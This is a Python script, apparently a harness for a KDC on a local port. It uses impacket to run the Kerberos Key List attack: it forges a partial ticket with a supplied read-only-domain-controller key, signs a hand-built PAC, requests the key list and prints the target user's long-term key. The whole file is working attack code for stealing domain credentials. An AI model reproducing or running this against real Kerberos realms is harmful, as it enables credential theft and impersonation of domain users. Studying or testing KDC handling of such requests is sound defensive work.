"""A partial ticket and a KERB-KEY-LIST-REQ, made by impacket alone, for a KDC on a port of its own."""
import datetime
import socket
import struct
import sys
from binascii import unhexlify

from impacket.examples import secretsdump
from impacket.krb5 import constants, crypto, pac
from impacket.krb5.asn1 import AD_IF_RELEVANT, KRB_ERROR, EncTicketPart
from impacket.krb5.kerberosv5 import KerberosError
from impacket.krb5.types import Principal
from impacket.ldap.ldaptypes import LDAP_SID
from pyasn1.codec.der import decoder, encoder
from pyasn1.type.univ import noValue

realm, port, number, key, user, sid = sys.argv[1:7]
AES256 = constants.EncryptionTypes.aes256_cts_hmac_sha1_96.value
HMAC_AES256 = constants.ChecksumTypes.hmac_sha1_96_aes256.value
KEY = crypto.Key(AES256, unhexlify(key))
TICKET_USAGE = 2
PAC_USAGE = 17


def exchange(data, host, kdc):
    with socket.create_connection(("127.0.0.1", int(port)), 10) as stream:
        stream.sendall(struct.pack("!i", len(data)) + data)
        size = struct.unpack("!i", stream.recv(4, socket.MSG_WAITALL))[0]
        answer = stream.recv(size, socket.MSG_WAITALL)
    try:
        error = decoder.decode(answer, asn1Spec=KRB_ERROR())[0]
    except Exception:
        return answer
    raise KerberosError(packet=error)


def signed_pac(authtime):
    """REQUESTOR, CLIENT_INFO and both signatures, the KDC's with the read-only KDC's number behind it."""
    requestor = LDAP_SID()
    requestor.fromCanonical(sid)
    client = pac.PAC_CLIENT_INFO()
    seconds = int(authtime.replace(tzinfo=datetime.timezone.utc).timestamp())
    client["ClientId"] = seconds * 10_000_000 + 116_444_736_000_000_000
    client["NameLength"] = len(user) * 2
    client["Name"] = user.encode("utf-16le")
    buffers = [(10, client.getData()), (18, requestor.getData())]

    def laid_out(server, kdc, identifier):
        every = buffers + [(6, signature(server)), (7, signature(kdc) + identifier)]
        heads, data = b"", b""
        offset = 8 + len(every) * len(pac.PAC_INFO_BUFFER().getData())
        for kind, content in every:
            head = pac.PAC_INFO_BUFFER()
            head["ulType"] = kind
            head["cbBufferSize"] = len(content)
            head["Offset"] = offset + len(data)
            heads += head.getData()
            data += content + bytes(-len(content) % 8)
        whole = pac.PACTYPE()
        whole["cBuffers"] = len(every)
        whole["Version"] = 0
        whole["Buffers"] = heads + data
        return whole.getData()

    def signature(octets):
        one = pac.PAC_SIGNATURE_DATA()
        one["SignatureType"] = HMAC_AES256
        one["Signature"] = octets
        return one.getData()

    # Signatures and number are zero while the server's is made (MS-PAC 2.8).
    unsigned = laid_out(bytes(12), bytes(12), bytes(2))
    server = crypto.make_checksum(HMAC_AES256, KEY, PAC_USAGE, unsigned)
    kdc = crypto.make_checksum(HMAC_AES256, KEY, PAC_USAGE, server)
    return laid_out(server, kdc, struct.pack("<H", int(number)))


def with_pac(ticket):
    """impacket of this version puts no PAC into its ticket, which domain controllers no longer take."""
    cipher = crypto._enctype_table[AES256]
    plain = cipher.decrypt(KEY, TICKET_USAGE, ticket["enc-part"]["cipher"].asOctets())
    part = decoder.decode(plain, asn1Spec=EncTicketPart())[0]
    authtime = datetime.datetime.strptime(str(part["authtime"]), "%Y%m%d%H%M%SZ")
    inner = AD_IF_RELEVANT()
    inner[0] = noValue
    inner[0]["ad-type"] = constants.AuthorizationDataType.AD_WIN2K_PAC.value
    inner[0]["ad-data"] = signed_pac(authtime)
    part["authorization-data"] = noValue
    part["authorization-data"][0] = noValue
    part["authorization-data"][0]["ad-type"] = constants.AuthorizationDataType.AD_IF_RELEVANT.value
    part["authorization-data"][0]["ad-data"] = encoder.encode(inner)
    ticket["enc-part"]["cipher"] = cipher.encrypt(KEY, TICKET_USAGE, encoder.encode(part), None)
    return ticket


secretsdump.sendReceive = exchange
keys = secretsdump.KeyListSecrets(realm, "127.0.0.1", int(number), key)
name = Principal(user, type=constants.PrincipalNameType.NT_PRINCIPAL.value)
ticket, session = keys.createPartialTGT(name)
answer = keys.getFullTGT(name, with_pac(ticket), session)
print("none" if answer is None else keys.getKey(answer, session))
